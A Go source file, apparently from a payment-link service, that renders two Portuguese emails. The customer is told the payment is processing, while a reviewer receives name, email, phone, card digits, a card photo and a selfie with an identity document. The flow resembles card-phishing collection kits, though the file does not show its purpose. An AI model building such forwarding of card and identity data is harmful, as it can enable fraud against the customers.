package mail

import (
	"bytes"
	"embed"
	"fmt"
	"html/template"
	"time"

	"github.com/guaraci/paylink-gateway/internal/model"
)

//go:embed templates/*.tmpl
var templateFS embed.FS

var bodyTemplates = template.Must(template.ParseFS(templateFS, "templates/*.tmpl"))

// Fixed attachment names on the reviewer notification.
const (
	AttachmentCardPhoto = "card_photo.jpg"
	AttachmentSelfie    = "selfie_with_document.jpg"
)

// timestampLayout matches the pt-BR date rendering of the original emails.
const timestampLayout = "02/01/2006 15:04:05"

// ComposeCustomer renders the customer-facing notification. It greets by
// name and shows the link identifier and timestamp only; no card, phone or
// email details. Recipient is left for the caller to fill in.
func ComposeCustomer(name, linkID string, at time.Time) (model.NotificationPayload, error) {
	data := struct {
		Name      string
		LinkID    string
		Timestamp string
	}{name, linkID, at.Format(timestampLayout)}

	var buf bytes.Buffer
	if err := bodyTemplates.ExecuteTemplate(&buf, "customer.html.tmpl", data); err != nil {
		return model.NotificationPayload{}, fmt.Errorf("render customer body: %w", err)
	}

	text := fmt.Sprintf(
		"Olá %s,\n\nSeu pagamento está sendo processado.\nID: %s\nData: %s\n\nAtenciosamente,\nEquipe Guaraci",
		name, linkID, data.Timestamp,
	)

	return model.NotificationPayload{
		Subject:  "Seu pagamento está em processamento",
		HTMLBody: buf.String(),
		TextBody: text,
	}, nil
}

// ComposeReviewer renders the reviewer-facing notification: every submitted
// field in a table plus both images attached under fixed filenames.
// Recipient is left for the caller to fill in.
func ComposeReviewer(sub model.Submission, at time.Time) (model.NotificationPayload, error) {
	data := struct {
		Name       string
		Email      string
		Phone      string
		CardDigits string
		LinkID     string
		Timestamp  string
	}{sub.Name, sub.Email, sub.Phone, sub.CardDigits, sub.LinkID, at.Format(timestampLayout)}

	var buf bytes.Buffer
	if err := bodyTemplates.ExecuteTemplate(&buf, "reviewer.html.tmpl", data); err != nil {
		return model.NotificationPayload{}, fmt.Errorf("render reviewer body: %w", err)
	}

	text := fmt.Sprintf(
		"Novo pagamento recebido.\n\nNome: %s\nE-mail: %s\nTelefone: %s\nCartão: %s\nID do Link: %s\nData/Hora: %s\n\nDocumentos anexados: foto do cartão, selfie com documento.",
		sub.Name, sub.Email, sub.Phone, sub.CardDigits, sub.LinkID, data.Timestamp,
	)

	return model.NotificationPayload{
		Subject:  "Novo pagamento de " + sanitizeHeader(sub.Name),
		HTMLBody: buf.String(),
		TextBody: text,
		Attachments: []model.Attachment{
			{Filename: AttachmentCardPhoto, ContentType: sub.CardPhoto.ContentType, Data: sub.CardPhoto.Data},
			{Filename: AttachmentSelfie, ContentType: sub.SelfieWithDocument.ContentType, Data: sub.SelfieWithDocument.Data},
		},
	}, nil
}
